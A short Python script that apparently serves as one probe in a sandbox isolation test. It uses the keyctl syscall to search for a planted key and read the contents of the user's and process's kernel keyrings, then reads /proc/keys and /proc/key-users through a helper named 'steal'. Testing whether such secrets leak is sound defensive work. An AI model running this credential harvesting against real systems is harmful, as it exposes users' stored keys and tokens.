"""The kernel's keyrings: a word lies in the user's."""

import ctypes
from probe import FACTS, attempt, got, libc, steal

buffer = ctypes.create_string_buffer(256)
numbers = [FACTS["key_id"], -1, -2, -3, -4, -5]
if FACTS["key_id"]:
    found = libc.syscall(250, 10, -4, b"user", b"hostile-planted", 0)
    numbers.append(found)
for number in numbers:
    attempt()
    size = libc.syscall(250, 11, number, buffer, 256)
    if size > 0:
        got(f"key {number}", buffer.raw[: min(size, 256)])
steal("/proc/keys")
steal("/proc/key-users")
